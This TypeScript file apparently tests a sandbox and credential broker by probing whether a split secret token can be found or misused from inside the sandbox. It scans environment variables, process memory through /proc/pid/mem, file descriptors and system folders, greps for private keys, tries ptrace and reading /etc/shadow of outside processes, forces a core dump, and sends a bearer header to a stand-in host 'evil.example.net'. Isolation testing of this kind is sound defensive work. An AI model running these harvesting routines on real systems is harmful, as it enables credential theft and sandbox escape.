// Everything a program in the bottle can read, searched for the token; and every use of the broker that is not meant.
import { spawnSync } from "node:child_process";
import { closeSync, openSync, readdirSync, readFileSync, readlinkSync, readSync, statSync } from "node:fs";
import { join } from "node:path";
import { args, failed, get, https, type Outcome, type Probes, perl, runProbes, tls, way } from "./lib.ts";

/** The token's two halves, so that this very program does not hold it whole. */
const [left = "", right = "", outsidePids = ""] = args;
const ALLOWED = "api.example.com";
const at = (name: string) => `/v1/${way}/${name}`;

const needle = Buffer.from(left);
const rest = Buffer.from(right);

/** Whether the halves stand there side by side. */
function holds(bytes: Buffer): boolean {
  for (let at = bytes.indexOf(needle); at >= 0; at = bytes.indexOf(needle, at + 1)) {
    if (bytes.subarray(at + needle.length, at + needle.length + rest.length).equals(rest)) return true;
  }
  return false;
}

function attempt(read: () => string): string {
  try {
    return read();
  } catch {
    // not ours to read: the next one
    return "";
  }
}

function search(places: Iterable<string>, read: (place: string) => string): Outcome {
  let count = 0;
  for (const place of places) {
    count += 1;
    if (
      holds(
        Buffer.from(
          attempt(() => read(place)),
          "latin1",
        ),
      )
    )
      return { kind: "done", detail: place };
  }
  return { kind: "failed", code: `NOT_IN_${count}` };
}

/** Outside, the control looks at itself only. */
const pids = () =>
  way === "outside" ? [String(process.pid)] : readdirSync("/proc").filter((name) => /^\d+$/.test(name));
const inProc = (file: string) =>
  search(
    pids().map((pid) => `/proc/${pid}/${file}`),
    (path) => readFileSync(path, "latin1"),
  );

function* everyFile(roots: readonly string[]): Iterable<string> {
  const waiting = [...roots];
  for (let folder = waiting.pop(); folder !== undefined; folder = waiting.pop()) {
    let entries: ReturnType<typeof list> = [];
    try {
      entries = list(folder);
    } catch {
      continue;
    }
    for (const entry of entries) {
      const path = join(folder, entry.name);
      if (entry.isDirectory()) waiting.push(path);
      else if (entry.isFile()) yield path;
    }
  }
}

const list = (folder: string) => readdirSync(folder, { withFileTypes: true });
const ROOTS =
  way === "outside"
    ? []
    : [
        "/home",
        "/workspace",
        "/tmp",
        "/etc",
        "/run",
        "/var",
        "/opt",
        "/root",
        "/srv",
        "/mnt",
        "/dev",
        "/usr/local/etc",
      ];
const MAX_FILE = 4 * 1024 * 1024;

/** A folder's entry tells what lies under a mount point: a device may look like a file there. */
function readSmall(path: string): string {
  const stats = statSync(path);
  return stats.isFile() && stats.size <= MAX_FILE ? readFileSync(path, "latin1") : "";
}

/** Every readable mapping of every process, files that are mapped included. */
function* memory(): Iterable<string> {
  for (const pid of pids()) {
    const maps = attempt(() => readFileSync(`/proc/${pid}/maps`, "latin1"));
    for (const [, from = "", to = ""] of maps.matchAll(/^([0-9a-f]+)-([0-9a-f]+) r/gm))
      yield `${pid} ${from} ${to}`;
  }
}

const block = Buffer.alloc(MAX_FILE);
/** Of one mapping; the token would not lie behind that much else. */
const MAX_MAPPING = 64 * MAX_FILE;

/** Looks through one mapping; blocks overlap, so that nothing is cut in two. */
function mappingHolds(place: string): boolean {
  const [pid = "", from = "", to = ""] = place.split(" ");
  const start = Number.parseInt(from, 16);
  const end = Math.min(Number.parseInt(to, 16), start + MAX_MAPPING);
  const file = openSync(`/proc/${pid}/mem`, "r");
  try {
    for (let at = start; at < end; at += block.length - 256) {
      const read = readSync(file, block, 0, Math.min(block.length, end - at), at);
      if (holds(block.subarray(0, read))) return true;
      if (read === 0) break;
    }
    return false;
  } finally {
    closeSync(file);
  }
}

function searchMemory(): Outcome {
  let count = 0;
  for (const place of memory()) {
    count += 1;
    try {
      if (mappingHolds(place)) return { kind: "done", detail: place };
    } catch {
      // not ours to read: the next one
    }
  }
  return { kind: "failed", code: `NOT_IN_${count}` };
}

const reading: Probes = {
  env: () => search(Object.values(process.env).map(String), (value) => value),
  environ: () => inProc("environ"),
  cmdline: () => inProc("cmdline"),
  memory: searchMemory,
  descriptors: () =>
    search(
      pids().flatMap((pid) => {
        try {
          return readdirSync(`/proc/${pid}/fd`).map((fd) => `/proc/${pid}/fd/${fd}`);
        } catch {
          return [];
        }
      }),
      (path) => readlinkSync(path) + readSmall(path),
    ),
  files: () => search(everyFile(ROOTS), (path) => readSmall(path)),
  "ca-key": () => {
    if (way === "outside") return { kind: "failed", code: "NONE" };
    const grep = spawnSync("grep", ["-rlI", "PRIVATE KEY", "/etc", "/home", "/tmp", "/opt/node", "/run"], {
      encoding: "utf8",
    });
    const found = grep.stdout.split("\n").filter((path) => path !== "" && path.includes("bot-bottle"));
    return found.length > 0 ? { kind: "done", detail: found.join() } : { kind: "failed", code: "NONE" };
  },
  "ptrace-outside": () => {
    const seen = outsidePids
      .split(",")
      .filter(
        (pid) =>
          perl(`syscall(${process.arch === "arm64" ? 117 : 101}, 16, ${pid}, 0, 0) == 0`).kind === "done",
      );
    return seen.length > 0 ? { kind: "done", detail: seen.join() } : { kind: "failed", code: "NONE" };
  },
  "read-outside": () =>
    search(
      outsidePids
        .split(",")
        .flatMap((pid) =>
          ["environ", "cmdline", "maps", "mem", "root/etc/shadow"].map((file) => `/proc/${pid}/${file}`),
        ),
      (path) => readFileSync(path, "latin1"),
    ),
  "own-core": () => {
    const run = spawnSync("sh", [
      "-c",
      "cd /workspace && ulimit -c unlimited; cd /workspace && kill -SEGV $$",
    ]);
    const cores = readdirSync("/workspace").filter((name) => name.startsWith("core"));
    return cores.length > 0
      ? { kind: "done", detail: cores.join() }
      : { kind: "failed", code: run.signal ?? "NONE" };
  },
};

const auth = (value: string) => `Authorization: ${value}\r\n`;

const using: Probes = {
  injected: () => https(ALLOWED, at("injected"), auth("Bearer placeholder")),
  "injected-unasked": () => https(ALLOWED, at("injected-unasked")),
  "own-key": () => https(ALLOWED, at("own-key"), auth("Bearer sk-of-the-attacker")),
  "own-key-twice": () => https(ALLOWED, at("own-key-twice"), auth("Bearer one") + auth("Bearer two")),
  "other-host": () => https("evil.example.net", at("other-host"), auth("Bearer placeholder")),
  "other-route": () => https("open.example.com", at("other-route"), auth("Bearer placeholder")),
  "plain-http": () =>
    tls(
      { dial: ALLOWED, sni: ALLOWED },
      `GET http://${ALLOWED}${at("plain")} HTTP/1.1\r\nHost: ${ALLOWED}\r\n\r\n`,
    ),
  trace: () => tls({ dial: ALLOWED, sni: ALLOWED }, get(at("trace"), ALLOWED).replace("GET", "TRACE")),
  "sidecar-page": () => tls({ dial: "sidecar", sni: "sidecar" }, get("/", "sidecar")),
};

try {
  await runProbes({ ...reading, ...using });
} catch (error) {
  console.log(failed(error));
}
